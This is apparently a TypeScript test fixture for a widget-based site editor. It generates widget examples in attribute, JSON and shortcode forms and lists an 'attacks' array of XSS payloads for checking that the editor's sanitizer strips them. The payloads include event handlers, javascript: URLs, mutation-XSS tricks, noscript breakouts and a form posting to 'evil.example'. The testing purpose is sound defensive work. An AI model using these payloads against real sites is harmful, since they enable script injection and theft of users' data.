/** Every example of every widget in the three forms in which an editor's text can contain it. */
import { readdirSync } from "node:fs";
import { toCatalogue } from "../../../contract/page-data/contract.ts";
import { contracts } from "../../../contract/page-data/contracts.ts";
import { formatSnippet } from "../../../demo/gallery/snippet/snippet.ts";
import type { PageDataValues } from "../../../editors/core/page-data-texts.ts";
import { formatFallback } from "../../../editors/tag/fallback.ts";

const catalogue = toCatalogue(await contracts());

export const forms = ["atributos", "json", "shortcode"] as const;

/** Returns the tags that this format can express, at least one for each widget. */
export async function tagsOf(form: (typeof forms)[number]): Promise<string[]> {
  const names = readdirSync(new URL("../../../widgets/", import.meta.url));
  const tags = names.map(async (widget) => {
    const { examples } = (await import(`../../../widgets/${widget}/page-data.ts`)) as {
      examples: { data: PageDataValues }[];
    };
    const entry = catalogue[widget];
    if (!entry) throw new Error(`${widget} is in no catalogue`);
    return examples.flatMap((example) => {
      const data = form === "shortcode" ? withListNames(example.data) : example.data;
      const fallback = formatFallback(entry.fallback, data, "");
      const written = formatSnippet({ widget, fields: entry.fields, values: data, fallback }, form);
      if ("problem" in written) return [];
      return form === "shortcode"
        ? `<p>${written.text.replaceAll("&", "&amp;")}</p>`
        : written.text;
    });
  });
  return (await Promise.all(tags)).flat();
}

/** Replaces lists of people by their names, as a shortcode does. */
function withListNames(data: PageDataValues): PageDataValues {
  const isRecords = (value: unknown) => Array.isArray(value) && typeof value[0] === "object";
  return Object.fromEntries(
    Object.entries(data).map(([key, value]) => [key, isRecords(value) ? "equipa" : value]),
  );
}

/** Attacks that could bypass an editor's sanitizer. */
export const attacks = [
  '<div data-imo-widget="mortgage-calculator" onclick="attack()"><p>a</p></div>',
  '<div data-imo-widget="mortgage-calculator"><script>attack()</script><p>a</p></div>',
  '<div data-imo-widget="mortgage-calculator"><p><a href="javascript:attack()">a</a></p></div>',
  '<div data-imo-widget="mortgage-calculator"><p><a href="java&#9;script:attack()">a</a></p></div>',
  '<div data-imo-widget="mortgage-calculator"><iframe srcdoc="<script>attack()</script>"></iframe></div>',
  '<div data-imo-widget="mortgage-calculator"><img src="x" onerror="attack()"></div>',
  '<div data-imo-widget="mortgage-calculator"><svg><a xlink:href="javascript:attack()"><text>a</text></a></svg></div>',
  '<div data-imo-widget="mortgage-calculator"><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attack()&gt;"></table></mtext></math></div>',
  '<div data-imo-widget="mortgage-calculator"><noscript><p title="</noscript><img src=x onerror=attack()>"></noscript></div>',
  '<div data-imo-widget="mortgage-calculator"><form action="https://evil.example/attack"><input name="a"></form></div>',
  '<div data-imo-widget="mortgage-calculator" x-data="attack()" @click="attack()"><p x-html="attack()">a</p></div>',
  '<div data-imo-widget="mortgage-calculator"><script type="application/json">{"a":"<!--<script>attack()"}</script></div>',
  `<div data-imo-bloco="${encodeURIComponent("<script>attack()</script>")}"></div>`,
  `<div data-imo-bloco="${encodeURIComponent('<div data-imo-widget="team-cards" onmouseover="attack()"><script>attack()</script></div>')}"></div>`,
  `<div data-imo-bloco="${encodeURIComponent('<p onclick="attack()">[imo-widget name="recruitment-wizard"]</p>')}"></div>`,
  '<div data-imo-bloco="%"></div>',
];
